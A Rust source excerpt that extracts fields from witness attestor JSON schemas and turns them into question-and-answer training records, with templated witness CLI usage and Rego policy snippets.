            let mut type_name = def
                .get("type")
                .and_then(Value::as_str)
                .unwrap_or("unknown")
                .to_string();
            if let Some(r) = def.get("$ref").and_then(Value::as_str) {
                type_name = r.rsplit('/').next().unwrap_or(r).to_string();
            }
            if type_name == "array" {
                if let Some(items) = def.get("items").filter(|i| i.is_object()) {
                    let item = items.get("type").and_then(Value::as_str).unwrap_or("object");
                    type_name = format!("array of {item}");
                }
            }
            SchemaField {
                required: required.contains(&name.as_str()),
                name: name.clone(),
                type_name,
            }
        })
        .collect()
}

/// Overview plus one Q/A per field (first 20) for one attestor's schema.
pub fn schema_qa(system_prompt: &str, attestor: &str, fields: &[SchemaField]) -> Vec<TrainingRecord> {
    let list = fields
        .iter()
        .map(|f| {
            let req = if f.required { " **required**" } else { "" };
            format!("- `{}` ({}){req}", f.name, f.type_name)
        })
        .collect::<Vec<_>>()
        .join("\n");

    let mut out = vec![TrainingRecord::new(
        system_prompt,
        format!("What fields does the {attestor} attestor capture?"),
        format!(
            "The {attestor} attestor captures these fields:\n\n{list}\n\n**Usage**:\n```bash\nwitness run --step build \\\n  --attestations {attestor} \\\n  --signer-file-key-path key.pem --outfile attestation.json \\\n  -- <your-command>\n```\n\nThe full schema is printed by `witness attestors schema {attestor}`."
        ),
    )];

    for f in fields.iter().take(20) {
        let required = if f.required { "Yes" } else { "No" };
        let name = &f.name;
        out.push(TrainingRecord::new(
            system_prompt,
            format!("What is the {name} field in {attestor} attestations?"),
            format!(
                "The `{name}` field in {attestor} attestations:\n\n**Type**: `{}`\n**Required**: {required}\n\n**Accessed in Rego**:\n```rego\npackage {}\n\nimport rego.v1\n\ndeny contains msg if {{\n    value := input[\"{name}\"]\n    not value\n    msg := \"{name} is missing\"\n}}\n```",
                f.type_name,
                attestor.replace('-', "_"),
            ),
        ));
    }
    out
}

/// Schema Q/A for every attestor the installed witness reports.
pub fn schema_records(witness: &WitnessCli, system_prompt: &str) -> Result<Vec<TrainingRecord>> {
    let attestors = witness.attestors_list()?;
    info!("found {} attestors", attestors.len());

    let mut out = Vec::new();
    for attestor in &attestors {
        let Some(schema) = witness.attestor_schema(attestor)? else {
            warn!("{attestor}: no schema available");
            continue;
        };
        let fields = schema_fields(&schema);
        if fields.is_empty() {
            warn!("{attestor}: no fields extracted");
            continue;
        }
        let qa = schema_qa(system_prompt, attestor, &fields);
        info!("{attestor}: {} fields, {} Q/A", fields.len(), qa.len());
        out.extend(qa);
    }
    Ok(out)
}
